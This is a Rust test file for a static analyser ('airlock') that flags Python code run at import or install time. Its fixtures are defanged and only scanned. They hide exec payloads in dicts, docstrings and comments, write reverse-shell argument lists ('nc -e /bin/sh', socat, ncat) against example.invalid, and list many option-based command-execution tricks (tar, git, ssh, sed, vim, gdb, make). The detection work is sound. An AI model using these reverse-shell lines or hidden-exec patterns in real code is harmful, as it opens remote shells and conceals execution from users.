//! Code run at load that the analyser could not read where it was handed over (testers t27
//! and t28, session 21): exec of a value the file does not show (a container's item, a class
//! attribute, a function's result, a docstring, the file's own comments read back), exec of
//! standard input, an interactive shell started with no script, programs that run a command
//! line through one of their options (`nc -e`, `git -c alias.x=!…`, `tar
//! --checkpoint-action=exec`), and a call chain longer than the reachability bound. Fixtures
//! are written here, defanged (commands only `echo`, hosts under `example.invalid`), and
//! scanned with the library; nothing is executed. Benign look-alikes stay below medium.

use airlock::finding::Severity;

#[path = "support/pysrc.rs"]
mod pysrc;
use pysrc::{benign, check, check_at_import_and_install, scan, worst};

const SHELL: &str = "python-shell-command";
const COMPUTED: &str = "python-exec-computed";
const LIMIT: &str = "resource-limit";

/// The payload each container case keeps: a shell command run at load once exec'd.
const P: &str = "\"import os; os.system('echo airlock-test')\"";

#[test]
fn code_kept_where_the_name_table_cannot_follow_is_read_as_what_may_run() {
    let sources = [
        format!("CFG = {{'init': {P}}}\nexec(CFG['init'])\n"),
        format!("CFG = {{'init': {P}}}\nexec(CFG.get('init'))\n"),
        format!("L = ['x', {P}]\nexec(L[-1])\n"),
        format!("for c in [{P}]:\n    exec(c)\n"),
        format!("class C:\n    code = {P}\nexec(C.code)\n"),
        format!("def get():\n    return {P}\nexec(get())\n"),
        format!("list(map(exec, [{P}]))\n"),
        "\"\"\"import os; os.system('echo airlock-test')\"\"\"\nexec(__doc__)\n".to_string(),
        format!("def f():\n    {P}\nexec(f.__doc__)\n"),
        // The payload in a comment, read back from the file's own source.
        "import linecache\nexec(linecache.getline(__file__, 3)[1:])\n#import os; os.system('echo airlock-test')\n".to_string(),
        "exec(open(__file__).read().split('#' + 'X ')[-1])\n#X import os; os.system('echo airlock-test')\n".to_string(),
    ];
    let high = Some(Severity::High);
    check_at_import_and_install(&sources, SHELL, high);
}

#[test]
fn the_evidence_names_the_exec_and_says_the_code_is_a_candidate() {
    let r = scan(
        "demo/__init__.py",
        &format!("CFG = {{'init': {P}}}\nexec(CFG['init'])\n"),
    );
    let f = r
        .findings
        .iter()
        .find(|f| f.rule.id == SHELL)
        .expect("a shell finding");
    assert_eq!(
        f.location.members.last().map(String::as_str),
        Some("<code this file may run at line 2>")
    );
    assert_eq!(f.evidence, "os.system('echo airlock-test')");
    assert_eq!(worst(&r, COMPUTED), Some(Severity::Low));
}

#[test]
fn exec_of_a_value_not_shown_is_a_note_at_load_and_nothing_in_a_function() {
    let low = Some(Severity::Low);
    check(&[
        (
            "demo/__init__.py",
            "from ._data import blob\nexec(blob)\n",
            COMPUTED,
            low,
        ),
        ("demo/__init__.py", "x = make()\nexec(x)\n", COMPUTED, low),
        (
            "demo/__init__.py",
            "def run(code):\n    exec(code)\n",
            COMPUTED,
            None,
        ),
        // `timeit` times a callable: not code.
        (
            "demo/__init__.py",
            "import timeit\ntimeit.timeit(fn, number=3)\n",
            COMPUTED,
            None,
        ),
        // A `.pth` target runs at every interpreter start.
        (
            "sitecustomize.py",
            "from x import blob\nexec(blob)\n",
            COMPUTED,
            Some(Severity::Medium),
        ),
    ]);
}

#[test]
fn exec_of_standard_input_at_load_is_high() {
    let high = Some(Severity::High);
    check(&[
        (
            "demo/__init__.py",
            "import sys\nexec(sys.stdin.read())\n",
            COMPUTED,
            high,
        ),
        ("demo/__init__.py", "exec(input())\n", COMPUTED, high),
        (
            "demo/__init__.py",
            "import sys\nc = sys.stdin.read()\nexec(c)\n",
            COMPUTED,
            high,
        ),
        (
            "demo/__init__.py",
            "import sys\ndef repl():\n    exec(sys.stdin.read())\n",
            COMPUTED,
            Some(Severity::Low),
        ),
    ]);
}

#[test]
fn a_shell_started_with_no_script_is_an_interactive_shell() {
    let high = Some(Severity::High);
    check(&[
        (
            "demo/__init__.py",
            "import os\nos.execv('/bin/sh', ['sh'])\n",
            SHELL,
            high,
        ),
        (
            "demo/__init__.py",
            "import os\nos.execl('/bin/bash', 'bash', '-i')\n",
            SHELL,
            high,
        ),
        (
            "demo/__init__.py",
            "import os\nos.execve('/bin/sh', ['sh'], os.environ)\n",
            SHELL,
            high,
        ),
        (
            "demo/__init__.py",
            "import subprocess\nsubprocess.Popen(['/bin/bash'])\n",
            SHELL,
            high,
        ),
        (
            "demo/__init__.py",
            "import subprocess\nsubprocess.call('sh')\n",
            SHELL,
            high,
        ),
        (
            "demo/__init__.py",
            "import subprocess\ndef shell():\n    subprocess.call(['bash'])\n",
            SHELL,
            Some(Severity::Low),
        ),
        // A script run by a shell, a version probe, the interpreter restarting itself.
        (
            "demo/__init__.py",
            "import os\nos.execl('/bin/sh', 'sh', path)\n",
            SHELL,
            None,
        ),
        (
            "demo/__init__.py",
            "import subprocess\nsubprocess.run(['bash', '--version'])\n",
            SHELL,
            None,
        ),
        (
            "demo/__init__.py",
            "import os, sys\nos.execv(sys.executable, [sys.executable] + sys.argv)\n",
            SHELL,
            None,
        ),
    ]);
}

#[test]
fn programs_that_run_a_command_line_through_an_option() {
    let argvs = [
        "['nc', '-e', '/bin/sh', 'x.example.invalid', '4444']",
        "['busybox', 'nc', 'x.example.invalid', '4444', '-e', 'sh']",
        "['ncat', '--ssl', '-e', '/bin/bash', 'x.example.invalid', '443']",
        "['socat', 'exec:sh', 'tcp:x.example.invalid:4444']",
        "['git', '-c', 'alias.x=!echo airlock-test', 'x']",
        "['git', '-c', 'core.sshCommand=echo airlock-test', 'fetch', 'origin']",
        "['ssh', '-o', 'ProxyCommand=echo airlock-test', 'x.example.invalid']",
        "['tar', '-cf', '/dev/null', 'a', '--checkpoint=1', '--checkpoint-action=exec=echo airlock-test']",
        "['tar', '-I', 'echo airlock-test', '-xf', 'a.tar']",
        "['zip', 'a.zip', 'b', '-T', '-TT', 'echo airlock-test #']",
        "['vim', '-c', ':!echo airlock-test', '-c', ':q']",
        "['gdb', '-batch', '-ex', '!echo airlock-test']",
        "['expect', '-c', 'spawn echo airlock-test']",
        "['rsync', '-e', 'echo airlock-test', 'a', 'b:c']",
        "['script', '-qc', 'echo airlock-test', '/dev/null']",
        "['su', 'nobody', '-c', 'echo airlock-test']",
        "['watch', '-n1', 'echo airlock-test']",
        "['docker', 'run', '--rm', 'alpine', 'sh', '-c', 'echo airlock-test']",
        "['systemd-run', '--user', 'sh', '-c', 'echo airlock-test']",
        "['Rscript', '-e', 'system(\"echo airlock-test\")']",
        "['sed', '-n', '1e echo airlock-test', '/etc/hostname']",
        "['sed', '-e', '/x/!s/^/echo airlock-test/e', 'f']",
        "['make', '-s', '--eval=x:\\n\\t@echo airlock-test', 'x']",
        "['make', '--eval', 'X := $(shell echo airlock-test)']",
    ];
    let sources: Vec<String> = argvs
        .iter()
        .map(|a| format!("import subprocess\nsubprocess.run({a})\n"))
        .collect();
    let high = Some(Severity::High);
    let cases: Vec<_> = sources
        .iter()
        .map(|s| ("demo/__init__.py", s.as_str(), SHELL, high))
        .collect();
    check(&cases);
}

#[test]
fn code_fed_to_an_interpreter_on_standard_input_is_analysed() {
    let high = Some(Severity::High);
    check(&[
        (
            "demo/__init__.py",
            "import subprocess\nsubprocess.run(['python3', '-'], input=b'import os; os.system(\"echo airlock-test\")')\n",
            SHELL,
            high,
        ),
        (
            "demo/__init__.py",
            "import subprocess\nsubprocess.run(['sh', '/dev/stdin'], input=b'echo airlock-test')\n",
            SHELL,
            high,
        ),
    ]);
}

#[test]
fn ordinary_uses_of_those_programs_stay_below_medium() {
    benign(&[
        ("demo/__init__.py", "import subprocess\nsubprocess.run(['git', '-c', 'core.pager=cat', 'log'])\n"),
        ("demo/__init__.py", "import subprocess\nsubprocess.run(['git', '-c', 'core.sshCommand=ssh -i key', 'fetch'])\n"),
        ("demo/__init__.py", "import subprocess\nsubprocess.run(['tar', '-I', 'zstd', '-xf', 'a.tar.zst'])\n"),
        ("demo/__init__.py", "import subprocess\nsubprocess.run(['rsync', '-e', 'ssh -p 2222', 'a', 'b:c'])\n"),
        ("demo/__init__.py", "import subprocess\nsubprocess.run(['ssh', '-o', 'ProxyCommand=ssh -W %h:%p bastion', 'x'])\n"),
        ("demo/__init__.py", "import subprocess\ndef probe():\n    subprocess.run(['nc', '-z', 'localhost', '8080'])\n"),
        ("demo/__init__.py", "import subprocess\nsubprocess.run(['sed', '-i', 's/version = .*/version = 1/g; /^#/d; 1i header', 'f'])\n"),
        ("demo/__init__.py", "import subprocess\nsubprocess.run(['sed', '-e', 's/a/b/w out.txt', '-e', 'y/abc/xyz/', 'f'])\n"),
        ("demo/__init__.py", "import subprocess\nsubprocess.run(['sed', '--sandbox', '1e echo airlock-test', 'f'])\n"),
        ("demo/__init__.py", "import subprocess\nsubprocess.run(['make', '--eval=CFLAGS += -O2', 'all'])\n"),
        // A docstring with an example, no exec; a setup.py reading its version module.
        ("demo/__init__.py", "\"\"\"Run `os.system('ls')` to list.\"\"\"\nimport os\n"),
        ("setup.py", "exec(open('demo/version.py').read())\nfrom setuptools import setup\nsetup(name='demo')\n"),
        // A module beside the file read with `__file__`: its comments are not candidate code.
        ("setup.py", "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'demo', 'v.py')).read())\n# run os.system('echo airlock-test') to clean\n"),
        // Code generation at module level whose templates are harmless.
        ("demo/__init__.py", "T = 'def {n}(self):\\n    return self._{n}\\n'\nfor n in ['a', 'b']:\n    exec(T.format(n=n))\n"),
    ]);
}

#[test]
fn a_call_chain_past_the_bound_says_so() {
    // `f0()` at load, each `f{i}` calling the next, the last running a shell command.
    let mut src = String::from("import os\nf0()\n");
    for i in 0..5000 {
        src.push_str(&format!("def f{i}():\n    f{}()\n", i + 1));
    }
    src.push_str("def f5000():\n    os.system('echo airlock-test')\n");
    let r = scan("demo/__init__.py", &src);
    assert_eq!(worst(&r, LIMIT), Some(Severity::High), "{:#?}", r.findings);
    // A chain within the bound is followed to its end.
    let mut src = String::from("import os\nf0()\n");
    for i in 0..500 {
        src.push_str(&format!("def f{i}():\n    f{}()\n", i + 1));
    }
    src.push_str("def f500():\n    os.system('echo airlock-test')\n");
    let r = scan("demo/__init__.py", &src);
    assert_eq!(worst(&r, SHELL), Some(Severity::High));
    assert_eq!(worst(&r, LIMIT), None);
}

#[test]
fn programs_that_open_a_connection_or_a_web_address_reach_the_network() {
    let medium = Some(Severity::Medium);
    check(&[
        (
            "demo/__init__.py",
            "import subprocess\nsubprocess.run(['openssl', 's_client', '-quiet', '-connect', 'x.example.invalid:443'])\n",
            "python-network-at-load",
            medium,
        ),
        (
            "demo/__init__.py",
            "import subprocess\nsubprocess.Popen(['xdg-open', 'https://x.example.invalid/'])\n",
            "python-network-at-load",
            medium,
        ),
        // A local certificate tool and opening a local file are not network.
        (
            "demo/__init__.py",
            "import subprocess\nsubprocess.run(['openssl', 'x509', '-in', 'c.pem', '-noout'])\n",
            "python-network-at-load",
            None,
        ),
        (
            "demo/__init__.py",
            "import subprocess\nsubprocess.Popen(['xdg-open', 'docs/index.html'])\n",
            "python-network-at-load",
            None,
        ),
    ]);
}
